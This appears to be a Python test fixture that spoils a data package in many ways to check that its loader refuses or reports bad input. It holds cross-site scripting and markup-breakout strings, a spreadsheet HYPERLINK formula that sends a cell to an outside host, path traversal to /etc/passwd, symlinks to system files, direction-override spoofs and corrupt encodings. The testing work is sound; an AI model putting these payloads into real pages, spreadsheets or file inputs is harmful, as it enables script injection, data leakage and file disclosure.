"""Packages that mean harm or are broken, each made from the sound one of the tests.

A poison changes a folder that `write_package` wrote and says what must become of it: it is
`refused` by the loader, `reported` by the checks though it loads, or `harmless`. For the
first two it names every place that the report has to name.
"""

import os
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from data.package import FOLDER, Field, Table, read_package
from tests.data.package_fixture import ROWS, edit_cell, read_lines, row_of, write_lines

_CONTRACT = read_package(FOLDER)
Place = tuple[str, int, str]  # file, row, column

REFUSED, REPORTED, HARMLESS = "refused", "reported", "harmless"


@dataclass(frozen=True)
class Poison:
    """One way to spoil a package.

    Attributes:
        name: What it is, for the test's name.
        apply: Does it to a folder.
        outcome: `refused`, `reported` or `harmless`.
        places: Every place that the report names, and no other.
    """

    name: str
    apply: Callable[[Path], None]
    outcome: str
    places: frozenset[Place] = frozenset()


# Each part would set the tripwire, or ask an outside host, if anything took it for code.
SCRIPT = (
    '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
    "<svg/onload=alert(3)> [click](javascript:window.__pwned=4) "
    "![p](https://outside.example/p.png) :red[**bold**] $\\href{javascript:alert(5)}{x}$ \u202e"
    " :material/verified: https://outside.example/a www.outside.example a@outside.example"
)
# Leaves an attribute, a script, a comment, a template, JSON in a page, Markdown code, XML.
BREAKOUT = (
    "\"'`onmouseover=window.__pwned=6 autofocus onfocus=window.__pwned=7 x=</script></style>"
    "<script>window.__pwned=8</script>--><!--{{7*7}}${window.__pwned=9}]]>"
    "<iframe srcdoc='<script>parent.__pwned=10</script>'></iframe><details open "
    "ontoggle=window.__pwned=11>"
)
FORMULA = '=HYPERLINK("https://outside.example/?"&A1,"x")'
RTL = "\u202egnp.exe\u202c \u2066\u2067abc\u2069 \u200f\u200e"
PAYLOADS = {"script": SCRIPT, "breakout": BREAKOUT, "formula": FORMULA, "direction override": RTL}


def is_free_text(table: Table, field: Field) -> bool:
    """True for a column whose cells may hold any words."""
    points = any(key.field == field.name for key in table.foreign_keys)
    is_formed = {"pattern", "enum"} & field.constraints.keys()
    return field.type == "string" and not (points or is_formed or field.is_date)


def fill_texts(folder: Path, payload: str) -> int:
    """Writes a payload into every cell of every free-text column, empty ones too.

    Labels of vocabularies stand in the app's own sentences; markup in them is refused.

    Each cell gets a number of its own, because names may not repeat. Quotations are left
    empty where the fixture has none, since three other cells would have to come along.

    Returns:
        How many cells it wrote.
    """
    count = 0
    for table in _CONTRACT.tables:
        if table.is_vocabulary:
            continue
        header, *lines = read_lines(folder, table.name)
        for field in table.fields:
            if not is_free_text(table, field):
                continue
            place = header.index(field.name)
            for line in lines:
                if line[place] or not field.name.startswith("quotation"):
                    count += 1
                    line[place] = f"{payload} {count}"
        write_lines(folder, table.name, [header, *lines])
    return count


def _path(table: str) -> str:
    return _CONTRACT.by_name[table].path


def _cell(name: str, outcome: str, table: str, key: str, column: str, value: str) -> Poison:
    row = row_of(table, key)
    places = frozenset() if outcome == HARMLESS else frozenset({(_path(table), row, column)})
    return Poison(name, lambda f: edit_cell(f, table, row, column, value), outcome, places)


def _file(
    name: str, table: str, change: Callable[[bytes], bytes], row: int | None, column: str = ""
) -> Poison:
    def apply(folder: Path) -> None:
        path = folder / _path(table)
        path.write_bytes(change(path.read_bytes()))

    if row is None:
        return Poison(name, apply, HARMLESS)
    return Poison(name, apply, REFUSED, frozenset({(_path(table), row, column)}))


def _link(name: str, table: str, to: Callable[[Path], str | Path]) -> Poison:
    def apply(folder: Path) -> None:
        path = folder / _path(table)
        path.unlink()
        path.symlink_to(to(folder))

    return Poison(name, apply, REFUSED, frozenset({(_path(table), 0, "")}))


def _pipe(folder: Path) -> None:
    path = folder / _path("views")
    path.unlink()
    os.mkfifo(path)


def _outside_copy(folder: Path) -> Path:
    """A sound file beside the package: only where it lies is wrong."""
    copy = folder.parent / "outside.csv"
    copy.write_bytes(b"\n".join([b"view_id", b"x"]))
    return copy


def _cells(name: str, outcome: str, table: str, column: str, values: dict[str, str]) -> Poison:
    def apply(folder: Path) -> None:
        for key, value in values.items():
            edit_cell(folder, table, row_of(table, key), column, value)

    places = frozenset((_path(table), row_of(table, key), column) for key in values)
    return Poison(name, apply, outcome, places)


def _repeated(table: str) -> Poison:
    def apply(folder: Path) -> None:
        lines = read_lines(folder, table)
        write_lines(folder, table, [*lines, lines[1]])

    key = _CONTRACT.by_name[table].primary_key[0]
    places = frozenset({(_path(table), len(ROWS[table]) + 2, key)})
    return Poison(f"a key of {table} twice", apply, REFUSED, places)


def _dangling() -> Iterator[Poison]:
    """One dangling pointer for every column that points to another table."""
    for table in _CONTRACT.tables:
        for key in table.foreign_keys:
            rows = ROWS.get(table.name, [])
            filled = [n for n, row in enumerate(rows, start=2) if row.get(key.field)]
            if not filled:
                continue
            row, name, column = filled[0], table.name, key.field
            yield Poison(
                f"{name}.{column} leads nowhere",
                lambda f, t=name, r=row, c=column: edit_cell(f, t, r, c, "no-such-row"),
                REFUSED,
                frozenset({(table.path, row, column)}),
            )


def _columns(name: str, change: Callable[[list[str]], list[str]]) -> Iterator[Poison]:
    """Every row changed alike: the header says it once."""
    for table in ("actors", "statements", "stages"):

        def apply(folder: Path, table: str = table) -> None:
            write_lines(folder, table, [change(line) for line in read_lines(folder, table)])

        yield Poison(f"{name} in {table}", apply, REFUSED, frozenset({(_path(table), 1, "")}))


def _texts() -> Iterator[Poison]:
    for name, payload in PAYLOADS.items():
        yield Poison(f"{name} in every text", lambda f, p=payload: void(fill_texts(f, p)), HARMLESS)
    long = "Sphinx of black quartz. " * 43_691  # 1 MB
    for table, key, column in (
        ("statements", "jets-reza-2023-06-01", "summary"),
        ("transfers", "jets", "name"),
        ("actors", "iran", "aliases"),
        ("views", "doe-2023-05-02", "quotation"),
    ):
        yield _cell(f"1 MB in {table}.{column}", REPORTED, table, key, column, long)


def void(_: object) -> None:
    """Drops a result."""


def _keys() -> Iterator[Poison]:
    """Payloads where an id, a code or an address stands: never let in."""
    for table, key, column in (
        ("sources", "times-2023", "url"),
        ("sources", "times-2023", "language"),
        ("corrections", "drones-2024-01-02", "correction_id"),
        ("corrections", "drones-2024-01-02", "record_id"),
        ("corrections", "drones-2024-01-02", "table_name"),
        ("deliveries", "drones-2022-08", "delivery_id"),
        ("relations", "iran-militia", "relation_id"),
    ):
        for name, payload in (("script", SCRIPT), ("address", "javascript:alert(1)")):
            yield _cell(f"{name} in {table}.{column}", REFUSED, table, key, column, payload)
    for value in ("../../etc/passwd", "a\nb", "A", "id\u200b", "x" * 50_000 + "!"):
        yield _cell(
            f"{value[:20]!r} as a key", REFUSED, "relations", "iran-militia", "relation_id", value
        )


def _labels() -> Iterator[Poison]:
    """Markup in the words of a vocabulary, which stand in the app's own sentences."""
    for table in ("stages", "categories", "standings", "directions"):
        for column in ("label", "definition"):
            yield Poison(
                f"script in {table}.{column}",
                lambda f, t=table, c=column: edit_cell(f, t, 2, c, SCRIPT),
                REFUSED,
                frozenset({(_path(table), 2, column)}),
            )
    for value in ("**bold**", ":red[x]", ":smile:", "a|b", "&lt;", "x" * 61, RTL, "http://x"):
        yield Poison(
            f"{value[:12]!r} for a label",
            lambda f, v=value: edit_cell(f, "stages", 2, "label", v),
            REFUSED,
            frozenset({(_path("stages"), 2, "label")}),
        )


def _days() -> Iterator[Poison]:
    for value in (
        *("2022-02-30", "2022-13", "0000-00-00", "2023-02-29", "31.12.2022", "soon", "2022-W05"),
        *("2022-10/2022-08", "../..", "/", "2022-10-10T25:00", "99999", "-0001-13", "２０２２"),
        *("1e9", "2022-10-10;DROP", "2022" * 5000, "\u202e2202"),
    ):
        yield _cell(
            f"day {value[:18]!r}",
            REFUSED,
            "statements",
            "drones-unnamed-2022-10-10",
            "said_date",
            value,
        )


def _amounts() -> Iterator[Poison]:
    row = row_of("deliveries", "drones-2022-08")

    def swap(folder: Path) -> None:
        edit_cell(folder, "deliveries", row, "quantity_low", "60")
        edit_cell(folder, "deliveries", row, "quantity_high", "40")

    places = frozenset({(_path("deliveries"), row, "quantity_low")})
    yield Poison("a range the wrong way round", swap, REPORTED, places)
    for value in ("nan", "inf", "1e400", "0x10", "9" * 5000, "1_000", "١٢", "=1+1"):
        yield _cell(
            f"number {value[:10]!r}",
            REFUSED,
            "deliveries",
            "drones-2022-08",
            "quantity_low",
            value,
        )


def _loops() -> Iterator[Poison]:
    yield _cells(
        "two parents of each other",
        REFUSED,
        "actors",
        "parent_id",
        {"jane-doe": "example-institute", "example-institute": "jane-doe"},
    )
    for column in ("derived_from_id", "retracts_id"):
        yield _cells(
            f"{column} in a circle",
            REPORTED,
            "statements",
            column,
            {
                "drones-unnamed-2022-10-10": "drones-institute-2022-11-06",
                "drones-institute-2022-11-06": "drones-unnamed-2022-10-10",
            },
        )
        yield _cell(
            f"{column} of itself",
            REPORTED,
            "statements",
            "jets-reza-2023-06-01",
            column,
            "jets-reza-2023-06-01",
        )


def _files() -> Iterator[Poison]:
    last = len(ROWS["actors"]) + 2
    yield _file("no UTF-8", "actors", lambda raw: raw.replace(b"Russia", b"Rus\xffia", 1), 0)
    yield _file("half a letter", "actors", lambda raw: raw.rstrip() + b"\xd8", 0)
    yield _file("overlong UTF-8", "actors", lambda raw: raw.replace(b"Iran", b"\xc0\xaf", 1), 0)
    yield _file("a lone surrogate", "actors", lambda raw: raw + b"\xed\xa0\x80", 0)
    yield _file("UTF-16", "actors", lambda raw: raw.decode().encode("utf-16"), 0)
    yield _file("NUL", "actors", lambda raw: raw.replace(b"Russia", b"Rus\0sia", 1), 3)
    yield _file("nothing but NULs", "actors", lambda raw: b"\0" * 4096, 1)
    yield _file("byte order mark", "actors", lambda raw: b"\xef\xbb\xbf" + raw, None)
    yield _file("two byte order marks", "actors", lambda raw: b"\xef\xbb\xbf" * 2 + raw, 1)
    yield _file("CRLF", "actors", lambda raw: raw.replace(b"\n", b"\r\n"), None)
    yield _file("mixed line ends", "actors", lambda raw: raw.replace(b"\n", b"\r\n", 3), None)
    yield _file("old Mac line ends", "actors", lambda raw: raw.replace(b"\n", b"\r"), None)
    yield _file("no last line end", "actors", lambda raw: raw.rstrip(b"\n"), None)
    yield _file("an empty file", "views", lambda raw: b"", 1)
    yield _file("only blanks", "views", lambda raw: b"  \n \n", 1)
    yield _file("only a header", "view_sources", lambda raw: raw.split(b"\n", 1)[0], None)
    yield _file("a blank line", "actors", lambda raw: raw + b"\n", last)
    yield _file("an open quote", "actors", lambda raw: raw.replace(b"State", b'"State', 1), 0)
    yield _file("HTML for CSV", "views", lambda raw: b"<!doctype html><title>404</title>", 1)
    yield _file("cut in the middle", "statements", lambda raw: raw[: len(raw) // 2], 4)


def poisons() -> list[Poison]:
    """All of them, in an order that stays."""
    return [
        *_texts(),
        *_keys(),
        *_labels(),
        *_days(),
        *_amounts(),
        *_loops(),
        *_files(),
        *(_repeated(table) for table in ("actors", "transfers", "statements", "event_actors")),
        *_dangling(),
        *_columns("a column too few", lambda line: line[:-1]),
        *_columns("a column too many", lambda line: [*line, "more"]),
        *_columns("columns the other way round", lambda line: line[::-1]),
        _link("a link to a file outside", "views", _outside_copy),
        _link("a link with ..", "views", lambda f: "../../outside.csv"),
        _link("a link to a device", "views", lambda _: "/dev/zero"),
        _link("a link to a system file", "views", lambda _: "/etc/passwd"),
        _link("a link to itself", "views", lambda f: f / _path("views")),
        Poison("a pipe", _pipe, REFUSED, frozenset({(_path("views"), 0, "")})),
    ]
